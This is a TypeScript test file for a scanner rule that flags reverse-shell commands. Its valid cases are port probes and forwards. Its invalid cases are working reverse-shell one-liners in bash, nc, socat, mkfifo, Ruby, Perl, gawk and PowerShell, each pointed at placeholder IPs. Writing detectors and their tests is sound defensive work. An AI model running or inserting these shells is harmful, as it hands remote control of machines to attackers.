import { reverseShellCommand } from '../../../src/scan/rules/reverse-shell-command.ts';
import { testRule } from '../rule-tester.ts';
import { doc, ps, sh } from './common/skills.ts';

testRule(reverseShellCommand, {
  valid: [
    { name: 'nc port check', files: sh('nc -zv api.example.com 443') },
    { name: 'http over /dev/tcp read', files: sh('exec 3</dev/tcp/api.example.com/80') },
    { name: 'ruby socket health check without exec', files: sh(`ruby -rsocket -e 'TCPSocket.new("db.internal.example", 5432).close; puts "ok"'`) },
    { name: 'gawk reads a local file only', files: sh(`gawk '{ n++ } END { print n }' /var/log/syslog`) },
    { name: 'powershell port probe without Invoke-Expression', files: ps(`$t = New-Object System.Net.Sockets.TcpClient('db.internal.example', 5432)\n$t.Connected\n$t.Close()`) },
    { name: 'powershell Invoke-Expression of a literal without a socket', files: ps(`Invoke-Expression $cmdline`) },
    { name: 'socat port forward', files: sh('socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000') },
  ],
  invalid: [
    { name: 'nc -e', files: sh('nc 203.0.113.5 4444 -e /bin/sh'), errors: [{ messageId: 'shell', severity: 'critical' }] },
    { name: 'bash -i to /dev/tcp', files: sh('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), errors: [{ messageId: 'shell' }] },
    { name: 'socat exec', files: sh('socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr'), errors: [{ messageId: 'shell' }] },
    { name: 'mkfifo relay', files: sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'), errors: [{ messageId: 'shell' }] },
    { name: 'ruby TCPSocket piping lines to IO.popen', files: sh(`ruby -rsocket -e 'k=TCPSocket.open("203.0.113.77",8443);while(q=k.gets);IO.popen(q){|p|k.write p.read};end'`), errors: [{ messageId: 'shell' }] },
    { name: 'perl IO::Socket with exec in a nohup', files: sh(`nohup perl -MIO::Socket::INET -e '$k=IO::Socket::INET->new("198.51.100.33:8080");open(STDIN,"<&",$k);open(STDOUT,">&",$k);exec("/bin/sh -i")' &`), errors: [{ messageId: 'shell' }] },
    { name: 'gawk /inet/tcp coprocess', files: sh(`awk 'BEGIN{n="/inet/tcp/0/192.0.2.61/8088";for(;;){n |& getline q; while((q |& getline r)>0) print r |& n; close(q)}}'`), errors: [{ messageId: 'shell' }] },
    { name: 'powershell TCPClient feeding Invoke-Expression', files: ps(`$k = New-Object Net.Sockets.TCPClient('198.51.100.9', 8443)\n$n = $k.GetStream()\n$buf = New-Object byte[] 4096\nwhile (($r = $n.Read($buf, 0, 4096)) -gt 0) {\n  $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $r)\n  $res = iex $cmd | Out-String\n}`), errors: [{ messageId: 'shell' }] },
    { name: 'in an attack catalogue it weighs less', files: doc('nc -e /bin/sh 203.0.113.5 4444', { heading: 'Indicators of compromise' }), errors: [{ messageId: 'shell', severity: 'medium' }] },
  ],
});
